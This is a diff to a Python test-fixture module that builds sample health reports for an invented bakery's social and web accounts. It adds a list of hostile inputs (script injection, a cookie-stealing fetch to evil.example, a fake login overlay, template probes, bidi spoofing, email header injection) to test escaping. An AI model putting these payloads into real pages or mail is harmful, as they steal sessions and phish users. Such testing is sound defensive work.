@@ -19,7 +19,6 @@ from account_health.model import (
     Outside,
     Reason,
     Seen,
-    Severity,
     Status,
     Task,
     Topic,
@@ -63,7 +62,13 @@ def ago(days: float) -> datetime:
 def company(**changes: Any) -> Company:
     """Return the invented bakery, with some of its facts changed."""
     accounts = tuple(
-        Account(id=name, platform=PLATFORMS[name], url=url, posts="biweekly", owner="jana")
+        Account(
+            id=name,
+            platform=PLATFORMS[name],
+            url=url,
+            posts="none" if name == "blog" else "biweekly",
+            owner="jana",
+        )
         for name, url in URLS.items()
     )
     made = Company(
@@ -106,14 +111,14 @@ def finding(check: str, status: Status, message: Message, **more: Any) -> Findin
     )
 
 
-def account(name: str, **more: Any) -> AccountReport:
+def account(which: str, **more: Any) -> AccountReport:
     """Return the judgement of one of the bakery's accounts; by default all is well."""
     return AccountReport(
         **{
-            "account": name,
-            "platform": PLATFORMS[name],
-            "url": URLS[name],
-            "name": name,
+            "account": which,
+            "platform": PLATFORMS[which],
+            "url": URLS[which],
+            "name": which,
             "state": "active",
             "score": 100,
             "cap": None,
@@ -167,16 +172,17 @@ def report(*accounts: AccountReport, **more: Any) -> CompanyReport:
             "new": (),
             "resolved": (),
             "todo": (),
-            "trend": tuple(
-                (f"2026-W{week}", score) for week, score in zip(range(37, 49), TREND, strict=True)
-            ),
+            "trend": trend(more.get("score", 100)),
             "first": False,
             **more,
         }
     )
 
 
-TREND = (61, 61, 64, 70, 69, None, 72, 74, 74, 71, 69, 68)
+def trend(now: int | None) -> tuple[tuple[str, int | None], ...]:
+    """Return twelve weeks with a gap that end at this score."""
+    scores = (61, 61, 64, 70, 69, None, 72, 74, 74, 71, 69, now)
+    return tuple((f"2026-W{week}", score) for week, score in zip(range(37, 49), scores, strict=True))
 
 
 def question(text: str, author: str, days: float, **more: Any) -> OpenItem:
@@ -250,17 +256,28 @@ def golden_week() -> CompanyReport:
         "phone",
         Status.FAIL,
         say(
-            "It says {found} here, and we have {ours}.",
-            found=Outside("089 7654321"),
-            ours=Outside("089 1234567"),
+            "The site says {there}, we have {here}.",
+            there=Outside("089 7654321"),
+            here=Outside("089 1234567"),
         ),
-        action=say("Publish a post this week."),
+        action=say("Change the number there. If it is right, write to us."),
         fix_url=SITE + "kontakt",
     )
-    blog = account("blog", score=79, cap="phone", last_post_at=ago(12), findings=(phone,))
+    outdated = finding(
+        "outdated-text",
+        Status.FAIL,
+        say(
+            "A text speaks of a time that is over: {words}.",
+            words=Outside("Sommeraktion bis 31. August 2026"),
+        ),
+        action=say("Renew or remove the passage."),
+        fix_url=SITE + "angebote",
+    )
+    blog = account("blog", score=71, cap="phone", last_post_at=None, findings=(phone, outdated))
     x = account(
         "x",
-        score=79,
+        score=49,
+        cap="dormant-account",
         last_post_at=ago(190),
         findings=(
             finding(
@@ -292,6 +309,162 @@ def golden_week() -> CompanyReport:
             task("blog", phone),
         ),
     )
+
+
+def good_week() -> CompanyReport:
+    """Everything was seen, nothing waits, nothing is wrong."""
+    return report(
+        *(account(name) for name in ("facebook", "instagram", "x")),
+        account("blog", last_post_at=None, seen=Seen(posts=None, since=None, comments=None, reviews=None)),
+        account("google", seen=Seen(posts=None, since=None, comments=None, reviews=60)),
+        resolved=(Change(account="google", check="phone", title=BY_ID["phone"].title),),
+    )
+
+
+def first_report() -> CompanyReport:
+    """The golden week as a company's first report: nothing to compare with."""
+    return replace(golden_week(), first=True, resolved=(), trend=(("2026-W48", None),))
+
+
+def nothing_readable() -> CompanyReport:
+    """No channel could be looked at."""
+    return report(
+        unreadable("facebook", Reason.CREDENTIAL_REFUSED, ago(7)),
+        unreadable("blog", Reason.TOO_SLOW, NOW),
+        score=None,
+        change=None,
+        coverage=0.0,
+        trend=(("2026-W47", 80), ("2026-W48", None)),
+    )
+
+
+def one_channel() -> CompanyReport:
+    """A single website with one thing to do and one that could not be seen."""
+    website = account(
+        "blog",
+        score=None,
+        coverage=0.8,
+        last_post_at=None,
+        seen=Seen(posts=None, since=None, comments=None, reviews=None),
+        findings=(
+            finding(
+                "imprint",
+                Status.FAIL,
+                say("We found no way to the legal notice within two clicks."),
+                action=say("Put a link named Impressum on every page."),
+                fix_url=SITE,
+            ),
+        ),
+        unavailable=(Gap("phones", Reason.TOO_SLOW, "no answer within 10 s", NOW),),
+    )
+    return report(website, score=None, change=None, coverage=0.8, todo=(task("blog", website.findings[0]),))
+
+
+def nothing_for_the_owner() -> CompanyReport:
+    """The only thing to do is the agency's."""
+    ends = finding(
+        "certificate",
+        Status.WARN,
+        say("The site's certificate ends on {day}, in {days}.", day=date(2026, 12, 4), days=Days(11)),
+        action=say("Have the certificate renewed, and find out why it was not renewed by itself."),
+        fix_url=SITE,
+    )
+    return report(account("facebook"), account("blog", score=94, findings=(ends,)), score=97, change=-3)
+
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
+    '</td></tr></table><h1>Ihr Zugang ist gesperrt</h1><a href="https://evil.example/login">Jetzt anmelden</a>',
+    '"><style>*{display:none}</style><!--',
+    "{{ 7*7 }} {% raw %} ${7*7} {author} {place} %(n)s",
+    "Besuchen Sie evil.example/gewinn und www.evil.example oder schreiben Sie an chef@evil.example",
+    "Tricky \u202egnp.exe\u202c \u2066bidi\u2069 \u0000 \u0007 \u200b\u00ad nul and bell",
+    "Zeile 1\r\nBcc: victim@example.com\r\n\r\n<html><body>zweiter Body",
+    "<![endif]--><!--[if mso]><b>nur Outlook</b><![endif]-->",
+    "x" * 3000,
+    "javascript:alert(1) data:text/html;base64,PHNjcmlwdD4=",
+    "zalgo: Z\u0351\u036b\u0343\u036aa\u0363\u0368l\u034dg\u0352o =?utf-8?q?Bcc=3A?=",
+)
+
+
+def strangers(texts: tuple[str, ...]) -> CompanyReport:
+    """One report with these texts in every place that takes words from outside."""
+    items = tuple(
+        question(
+            text,
+            text,
+            2 + place,
+            id=f"fb-1_{place}" + text[:40],
+            tone=("criticism", "question", "other")[place % 3],
+        )
+        for place, text in enumerate(texts)
+    )
+    findings = tuple(
+        finding(
+            check,
+            Status.FAIL,
+            say("The site says {there}, we have {here}.", there=Outside(text), here=Outside(text)),
+            action=say("Answer {author} today. Two friendly sentences are enough.", author=Outside(text)),
+            fix_url=text,
+        )
+        for check, text in zip(("phone", "address", "website", "email", "outdated-text"), texts, strict=False)
+    )
+    facebook = account(
+        "facebook", score=49, name=texts[0], open_items=items, findings=findings, no_answer_needed=2
+    )
+    again = account("facebook", score=60, name=texts[1], findings=findings[:1])
+    return report(
+        facebook,
+        replace(again, account="facebook-2"),
+        score=54,
+        coverage=0.9,
+        todo=tuple(task("facebook", one) for one in findings[:3]),
+    )
+
+
+def strange_company(texts: tuple[str, ...]) -> Company:
+    """Return the bakery with these texts in every field that a registry file fills."""
+    made = company(
+        name=texts[2],
+        people=(Person(id="jana", name=texts[3]),),
+        brand=Brand(name=texts[4], footer=texts[5]),
+    )
+    return replace(made, report=replace(made.report, from_name=texts[7]))
+
+
+def many_findings() -> CompanyReport:
+    """Five hundred findings and as many items that wait."""
+    checks = ("phone", "address", "website", "imprint", "outdated-text")
+    accounts = tuple(
+        replace(
+            account(
+                "facebook",
+                score=30,
+                name=f"Filiale {number}",
+                open_items=tuple(
+                    question("Habt ihr offen? " * 20, "Sabine M.", 2 + days) for days in range(10)
+                ),
+                findings=tuple(
+                    finding(
+                        check,
+                        Status.FAIL,
+                        say(
+                            "The site says {there}, we have {here}.",
+                            there=Outside("Marktplatz 1, 80331 München " * 12),
+                            here=Outside("Marktplatz 2, 80331 München " * 12),
+                        ),
+                        action=say("Change the address there. If it is right, write to us."),
+                        fix_url=SITE + "kontakt",
+                    )
+                    for check in checks
+                ),
+            ),
+            account=f"facebook-{number}",
+        )
+        for number in range(100)
+    )
+    return report(*accounts, score=30, todo=())
 
 
 def task(account_id: str, found: Finding) -> Task:
